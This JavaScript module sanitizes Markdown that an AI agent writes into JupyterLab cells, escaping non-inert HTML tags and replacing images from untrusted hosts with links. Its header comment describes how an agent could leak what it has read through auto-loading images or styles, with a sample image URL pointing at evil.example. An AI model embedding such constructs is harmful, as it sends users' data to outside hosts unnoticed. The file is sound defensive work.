// Markdown the agent writes into a cell, made to load nothing when the notebook renders it.
//
// JupyterLab renders a Markdown cell the moment it is inserted or edited, and its sanitizer lets
// images, video and inline styles through: an agent that wrote `![x](https://evil.example/?d=…)`,
// `<img src=…>`, `style="background:url(…)"` or `<video src=…>` would send what it has read to
// that host before the person looks. So what the bridge writes into a Markdown cell (and only
// that: the person's own typing is never touched) is rewritten first, as little as it takes:
//
// - an image loads only as an inline raster `data:` image in base64 (the types of
//   gth_jupyter/contract/spec/media.json), a cell attachment, or from a host the configuration
//   trusts (`a2ui.imageHosts`, the widget's media policy, js/src/media.js); any other becomes
//   a link naming its host, `[\[image: alt (host)\]](url)`, as in the static copy
//   (gth_jupyter/copy/markdown.py), or inside a link just that label;
// - a raw HTML tag outside a small list of inert ones (b, sub, details, span, table, …, with
//   inert attributes only: no style, srcset, poster, background, event handler) is shown as
//   text: its `<` is written `&lt;`;
// - everything else (headings, lists, code, links, tables, math) stays as it was, byte for byte.
//
// The constructs are found with marked's lexer, which JupyterLab renders cells with, so both read
// the text alike. The result is then checked as it will be rendered: by JupyterLab (its math
// hiding around marked with GFM), by marked alone, and by markdown-it with raw HTML and linkify on
// (VS Code, which renders a saved notebook's cells so). If any tag in any of that HTML could load
// or style something, the whole text is escaped instead (every `<` as `&lt;`, every `![` as
// `!\[`), and if even that renders something that loads, it is shown as a code block.

import MarkdownIt from "markdown-it";
import { Marked } from "marked";
import media from "../../gth_jupyter/contract/spec/media.json" with { type: "json" };
import { removeMath, replaceMath } from "./jupyter_math.js";

/** @typedef {import("marked").Token} Token */
/** @typedef {{ kind: "tag" | "image", raw: string, replacement?: string }} Piece */
/** @typedef {{ end: boolean, name: string, attrs: [string, string][], start: number, stop: number, closed: boolean }} Tag */

// Our own instance: the page's marked (if it were shared) keeps its options and extensions.
const marked = new Marked({ gfm: true, async: false });
const markdownIt = new MarkdownIt({ html: true, linkify: true });

/** Inline images that load nothing: the widget's and the static copy's raster types, in base64. */
const RASTER_DATA = new RegExp(`^data:(${media.inlineImageTypes.map((t) => t.replace(/[.+/]/g, "\\$&")).join("|")});base64,`, "i");

/** Tags that load and style nothing with the attributes below (marked's own output included). */
const INERT_TAGS = new Set(
  ("a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup " +
    "dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr " +
    "i img input ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span strike " +
    "strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr").split(" "),
);
/** Attributes that load and style nothing, on any inert tag; `href`, `src`, `style` are judged. */
const INERT_ATTRS = new Set(
  ("abbr align alt border cellpadding cellspacing checked class color colspan datetime dir disabled " +
    "face headers height id lang name nowrap open rel reversed role rowspan scope size span start " +
    "target title type valign value width").split(" "),
);
// markdown-it aligns table cells this way.
const ALIGN_STYLE = /^\s*text-align\s*:\s*(left|right|center)\s*;?\s*$/i;
// A complete open or close tag as a CommonMark parser (markdown-it) or marked reads one, found in
// text marked did not take for HTML: escaped, another renderer cannot take it for HTML either.
const CANDIDATE_TAG =
  /<\/?[A-Za-z][\w-]*(?:\s+[A-Za-z_:][\w.:-]*(?:\s*=\s*(?:[^"'=<>`\u0000-\u0020]+|'[^']*'|"[^"]*"))?)*\s*\/?>/g;
const WS = /[\t\n\f\r ]/;
const NAME_END = /[\t\n\f\r />]/;
const ATTR_NAME_END = /[\t\n\f\r />=]/;
const UNQUOTED_END = /[\t\n\f\r >]/;
// What the rewrite may cost before the whole text is escaped instead (lexes of the text).
const BUDGET_BASE = 64;
const BUDGET_PER_PIECE = 8;

/**
 * The agent's Markdown for a cell, with nothing in it that loads when rendered.
 * @param {string} source
 * @param {{ imageHosts?: unknown }} [options] `imageHosts`: `a2ui.imageHosts`, whose images load
 */
export function safeCellMarkdown(source, { imageHosts } = {}) {
  const hosts = hostEntries(imageHosts);
  const text = String(source ?? "");
  const rewritten = rewrite(text, hosts);
  if (rewritten !== null && loadsNothing(rewritten, { imageHosts: hosts })) return rewritten;
  const escaped = escapeAll(text);
  if (loadsNothing(escaped, { imageHosts: hosts })) return escaped;
  return asCode(text);
}

/**
 * Whether `markdown` renders to HTML in which nothing loads or is styled: as JupyterLab renders
 * a cell (math taken out, marked with GFM, math put back), as marked alone does, and as
 * markdown-it does.
 * @param {string} markdown
 * @param {{ imageHosts?: unknown }} [options]
 */
export function loadsNothing(markdown, { imageHosts } = {}) {
  const hosts = hostEntries(imageHosts);
  const { text, math } = removeMath(markdown);
  const pages = [() => replaceMath(render(text), math), () => render(markdown), () => markdownIt.render(markdown)];
  return pages.every((page) => inertHtml(page(), hosts));
}

/**
 * Whether every tag of `html` is inert (see INERT_TAGS), judged as a browser parses tags.
 * @param {string} html
 * @param {{ imageHosts?: unknown }} [options]
 */
export function htmlLoadsNothing(html, { imageHosts } = {}) {
  return inertHtml(html, hostEntries(imageHosts));
}

/** @param {string} markdown */
function render(markdown) {
  return /** @type {string} */ (marked.parse(markdown, { async: false }));
}

/** @param {string} html @param {string[]} hosts */
function inertHtml(html, hosts) {
  for (const tag of tags(html)) if (!inertTag(tag, hosts)) return false;
  return true;
}

// ---- the rewrite -----------------------------------------------------------------------------

/**
 * Rewrites the text block by block (marked's top-level tokens, whose texts make up the whole);
 * a block with nothing dangerous in it is kept as it is. Null when a block could not be fixed.
 * @param {string} text @param {string[]} hosts
 * @returns {string | null}
 */
function rewrite(text, hosts) {
  const tokens = lex(text);
  const links = tokens.links;
  if (tokens.map((t) => t.raw).join("") !== text) return rewriteBlock(text, hosts, links);
  let out = "";
  for (const token of tokens) {
    /** @type {Piece[]} */
    const found = [];
    walk([token], false, found, hosts);
    const fixed = found.length ? rewriteBlock(token.raw, hosts, links) : token.raw;
    if (fixed === null) return null;
    out += fixed;
  }
  return out;
}

/**
 * Rewrites one dangerous construct at a time, where the lexer found it, until it finds none;
 * null when that did not work out within the budget.
 * @param {string} text @param {string[]} hosts @param {import("marked").Links} links the
 *   reference definitions of the whole text (a block may use one defined in another)
 * @returns {string | null}
 */
function rewriteBlock(text, hosts, links) {
  // Only the others' definitions: marked drops a definition whose name it already knows.
  const others = { ...links };
  for (const tag of Object.keys(lex(text).links)) delete others[tag];
  links = others;
  let out = text;
  let found = dangers(out, hosts, links);
  let budget = BUDGET_BASE + BUDGET_PER_PIECE * found.length;
  while (found.length) {
    let done = false;
    for (const piece of found) {
      const before = same(found, piece);
      // The piece's text may occur elsewhere too (inside code, say): the occurrence that is the
      // construct is the one whose rewrite makes the lexer find one fewer.
      for (const at of occurrences(out, piece.raw)) {
        if (--budget < 0) return null;
        const candidate = apply(out, at, piece);
        const next = dangers(candidate, hosts, links);
        if (same(next, piece) < before || next.length < found.length) {
          out = candidate;
          found = next;
          done = true;
          break;
        }
      }
      if (done) break;
    }
    if (!done) return null;
  }
  return out;
}

/**
 * marked's tokens of `text`, knowing the reference definitions `links` besides its own.
 * @param {string} text @param {import("marked").Links} [links]
 */
function lex(text, links) {
  const lexer = new marked.Lexer(marked.defaults);
  if (links) Object.assign(lexer.tokens.links, links);
  return lexer.lex(text);
}

/** @param {Piece[]} list @param {Piece} piece */
function same(list, piece) {
  return list.filter((p) => p.kind === piece.kind && p.raw === piece.raw).length;
}

/**
 * Where `raw` (a token's text as the lexer saw it) is in `text`: inside a blockquote or a list
 * item the lexer's text lost each line's `>` or indentation, which the match allows back.
 * @param {string} text @param {string} raw
 * @returns {{ index: number, length: number }[]}
 */
function occurrences(text, raw) {
  const pattern = raw
    .split(/\n[ \t]*/)
    .map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, "\\$&"))
    .join("\\n[ \\t>]*");
  const found = [];
  for (const m of text.matchAll(new RegExp(pattern, "g"))) found.push({ index: m.index ?? 0, length: m[0].length });
  return found;
}

/**
 * A tag is shown as text (its `<` as `&lt;`); an image is replaced by its label.
 * @param {string} text @param {{ index: number, length: number }} at @param {Piece} piece
 */
function apply(text, at, piece) {
  const head = text.slice(0, at.index);
  const tail = text.slice(at.index + at.length);
  if (piece.kind === "tag") return `${head}&lt;${text.slice(at.index + 1, at.index + at.length)}${tail}`;
  // After a `!` the label's `[` would open an image again.
  const gap = head.endsWith("!") ? " " : "";
  return head + gap + piece.replacement + tail;
}

/**
 * What in `text` would load or style something, in document order: images that may not load,
 * tags that are not inert (in raw HTML, or in text another renderer could take for HTML).
 * @param {string} text @param {string[]} hosts @param {import("marked").Links} links
 * @returns {Piece[]}
 */
function dangers(text, hosts, links) {
  /** @type {Piece[]} */
  const found = [];
  walk(lex(text, links), false, found, hosts);
  return found;
}

/**
 * @param {Token[]} tokens @param {boolean} inLink @param {Piece[]} found @param {string[]} hosts
 */
function walk(tokens, inLink, found, hosts) {
  for (const token of tokens) {
    const t = /** @type {any} */ (token);
    switch (t.type) {
      case "image":
        if (!imageLoads(t.href, hosts)) found.push({ kind: "image", raw: t.raw, replacement: imageLabel(t, inLink) });
        continue;
      case "html":
        for (const tag of tags(t.raw)) {
          if (!inertTag(tag, hosts)) found.push({ kind: "tag", raw: t.raw.slice(tag.start, tag.stop) });
        }
        continue;
      case "code":
      case "codespan":
      case "escape":
        continue;
      // Text marked shows as text, or not at all: another renderer may read HTML in it.
      case "def":
        candidates(t.raw, found, hosts);
        continue;
      case "link":
        candidates(`${t.href ?? ""} ${t.title ?? ""}`, found, hosts);
        break;
      case "text":
        if (!t.tokens) {
          candidates(t.raw, found, hosts);
          continue;
        }
        break;
      case "table":
        for (const cell of [...t.header, ...t.rows.flat()]) walk(cell.tokens, inLink, found, hosts);
        continue;
      case "list":
        walk(t.items, inLink, found, hosts);
        continue;
    }
    if (Array.isArray(t.tokens)) walk(t.tokens, inLink || t.type === "link", found, hosts);
  }
}

/**
 * The tags in `text` that a renderer could read as HTML and that are not inert.
 * @param {string} text @param {Piece[]} found @param {string[]} hosts
 */
function candidates(text, found, hosts) {
  for (const m of String(text).matchAll(CANDIDATE_TAG)) {
    const [tag] = tags(m[0]);
    if (tag && !inertTag(tag, hosts)) found.push({ kind: "tag", raw: m[0] });
  }
}

/**
 * What stands for an image that may not load: a link to it naming its host (its label only
 * inside a link, which cannot hold another), or the label alone for a URL that is no link.
 * @param {any} token @param {boolean} inLink
 */
function imageLabel(token, inLink) {
  const href = httpUrl(token.href);
  const alt = String(token.text ?? "").replace(/\s+/g, " ").trim();
  const host = href ? hostOf(href) : "";
  const label = "\\[" + mdText(`image${alt ? `: ${alt}` : ""}${host ? ` (${host})` : ""}`) + "\\]";
  if (!href || inLink) return label;
  return `[${label}](${linkTarget(href)})`;
}

/**
 * Plain text as Markdown that shows it literally and starts no markup, math or HTML.
 * @param {string} text
 */
function mdText(text) {
  return text.replace(/[\\`*_[\]!&~|$]/g, "\\$&").replace(/</g, "&lt;");
}

/**
 * A URL as a link destination that no character of it can end or turn into other markup.
 * @param {string} href
 */
function linkTarget(href) {
  return href.replace(/[()\\|`$<> "'*_~[\]]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, "0")}`);
}

/** The last resort that keeps the text readable: nothing in it can start a tag or an image. */
function escapeAll(/** @type {string} */ text) {
  return text.replace(/</g, "&lt;").replace(/!\[/g, "!\\[");
}

/** The text as a code block, which renders nothing of it (no backtick run inside can close it). */
function asCode(/** @type {string} */ text) {
  const longest = Math.max(0, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
  const fence = "`".repeat(Math.max(3, longest + 1));
  return `${fence}\n${text.replace(/\r\n?/g, "\n")}${text.endsWith("\n") ? "" : "\n"}${fence}`;
}

// ---- URLs and hosts (js/src/media.js's policy) -----------------------------------------------

/**
 * Whether an image with this URL may load: an inline raster image, a cell attachment (held in
 * the notebook itself), or an http(s) image from a trusted host.
 * @param {unknown} url @param {string[]} hosts
 */
function imageLoads(url, hosts) {
  if (typeof url !== "string") return false;
  // As a browser reads a URL: tabs and newlines anywhere are dropped, spaces around trimmed.
  const u = url.replace(/[\t\n\r]/g, "").replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, "");
  if (RASTER_DATA.test(u)) return true;
  if (u.startsWith("attachment:")) return true;
  const href = httpUrl(u);
  return href !== null && trusts(hostOf(href), hosts);
}

/**
 * An absolute http(s) URL with a host and no user name or password, normalised; else null.
 * @param {unknown} url
 */
function httpUrl(url) {
  if (typeof url !== "string") return null;
  const u = url.trim();
  if (!/^https?:\/\//i.test(u)) return null;
  try {
    const parsed = new URL(u);
    if (!parsed.hostname || parsed.username || parsed.password) return null;
    return parsed.href;
  } catch {
    return null;
  }
}

/** @param {string} url */
function hostOf(url) {
  try {
    return normHost(new URL(url).hostname);
  } catch {
    return "";
  }
}

/** @param {string} host */
function normHost(host) {
  return host.trim().toLowerCase().replace(/^\[(.*)\]$/, "$1").replace(/\.$/, "");
}

/**
 * `imageHosts` entries in the form `hostOf` gives: `cdn.example.com`, `*.example.com`, `*`.
 * @param {unknown} hosts
 * @returns {string[]}
 */
function hostEntries(hosts) {
  if (!Array.isArray(hosts)) return [];
  return hosts
    .filter((h) => typeof h === "string")
    .map((entry) => {
      const e = entry.trim().toLowerCase();
      if (e === "*") return e;
      const wild = e.startsWith("*.");
      const name = wild ? e.slice(2) : e;
      try {
        const host = normHost(new URL(`http://${/:/.test(name) && !name.startsWith("[") ? `[${name}]` : name}/`).hostname);
        return host ? (wild ? `*.${host}` : host) : "";
      } catch {
        return "";
      }
    })
    .filter(Boolean);
}

/** @param {string} host @param {string[]} hosts */
function trusts(host, hosts) {
  if (!host) return false;
  return hosts.some((e) => e === "*" || e === host || (e.startsWith("*.") && host.endsWith(e.slice(1))));
}

// ---- tags, as a browser reads them -----------------------------------------------------------

/**
 * Whether a tag loads and styles nothing. An unfinished tag counts as a loading one: where it
 * ends depends on what follows.
 * @param {Tag} tag @param {string[]} hosts
 */
function inertTag(tag, hosts) {
  if (!tag.closed || !INERT_TAGS.has(tag.name)) return false;
  if (tag.end) return true;
  for (const [name, value] of tag.attrs) {
    if (INERT_ATTRS.has(name) || name.startsWith("aria-")) continue;
    if (name === "href" && tag.name === "a") continue;
    if (name === "src" && tag.name === "img" && imageLoads(value, hosts)) continue;
    if (name === "style" && (tag.name === "td" || tag.name === "th") && ALIGN_STYLE.test(value)) continue;
    return false;
  }
  if (tag.name === "img") return tag.attrs.some(([name]) => name === "src");
  // An `<input type=image>` loads its src; a task list's checkbox loads nothing.
  if (tag.name === "input") return tag.attrs.some(([name, value]) => name === "type" && value.trim().toLowerCase() === "checkbox");
  return true;
}

/**
 * The tags of `html` with their attributes (values with character references decoded), read as
 * the HTML standard's tokenizer reads them. Where a reading is in doubt the scan keeps looking
 * for tags: `<!x`, `<?x` and `</ x` are read as text (a browser would hide what follows up to `>`,
 * another parser might not), and a comment ends at its earliest possible end.
 * @param {string} html
 * @returns {Generator<Tag>}
 */
export function* tags(html) {
  const n = html.length;
  let i = 0;
  while (i < n) {
    const lt = html.indexOf("<", i);
    if (lt < 0) return;
    if (html.startsWith("<!--", lt)) {
      const a = html.indexOf("-->", lt + 2);
      const b = html.indexOf("--!>", lt + 2);
      i = Math.min(a < 0 ? n : a + 3, b < 0 ? n : b + 4);
      continue;
    }
    let p = lt + 1;
    const end = html[p] === "/";
    if (end) p++;
    if (!/[A-Za-z]/.test(html[p] ?? "")) {
      i = lt + 1;
      continue;
    }
    let q = p;
    while (q < n && !NAME_END.test(html[q])) q++;
    const name = html.slice(p, q).toLowerCase();
    /** @type {[string, string][]} */
    const attrs = [];
    let closed = false;
    p = q;
    while (p < n) {
      const c = html[p];
      if (WS.test(c) || c === "/") {
        p++;
        continue;
      }
      if (c === ">") {
        closed = true;
        p++;
        break;
      }
      // An attribute's name: its first character may be `=` (then part of the name).
      q = p + 1;
      while (q < n && !ATTR_NAME_END.test(html[q])) q++;
      const attr = html.slice(p, q).toLowerCase();
      p = q;
      while (p < n && WS.test(html[p])) p++;
      let value = "";
      if (html[p] === "=") {
        p++;
        while (p < n && WS.test(html[p])) p++;
        const quote = html[p];
        if (quote === '"' || quote === "'") {
          const close = html.indexOf(quote, p + 1);
          value = html.slice(p + 1, close < 0 ? n : close);
          p = close < 0 ? n : close + 1;
        } else if (quote !== ">") {
          q = p;
          while (q < n && !UNQUOTED_END.test(html[q])) q++;
          value = html.slice(p, q);
          p = q;
        }
      }
      attrs.push([attr, decodeEntities(value)]);
    }
    yield { end, name, attrs, start: lt, stop: p, closed };
    i = p;
  }
}

const NAMED = /** @type {Record<string, string>} */ ({
  amp: "&", lt: "<", gt: ">", quot: '"', apos: "'", colon: ":", sol: "/", period: ".", lpar: "(",
  rpar: ")", tab: "\t", newline: "\n", nbsp: "\u00a0", num: "#", quest: "?", equals: "=",
  commat: "@", percnt: "%", plus: "+", excl: "!", bsol: "\\", lowbar: "_", hyphen: "-",
});

/**
 * An attribute value with its character references decoded; one this does not know stays as
 * written, so a URL holding it is judged by its text (and so not trusted by accident).
 * @param {string} value
 */
function decodeEntities(value) {
  return value.replace(/&(?:#(\d+)|#[xX]([0-9a-fA-F]+)|([A-Za-z][A-Za-z0-9]*));?/g, (whole, dec, hex, name) => {
    if (dec || hex) {
      const code = dec ? Number.parseInt(dec, 10) : Number.parseInt(hex, 16);
      return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : "\ufffd";
    }
    return NAMED[name.toLowerCase()] ?? whole;
  });
}
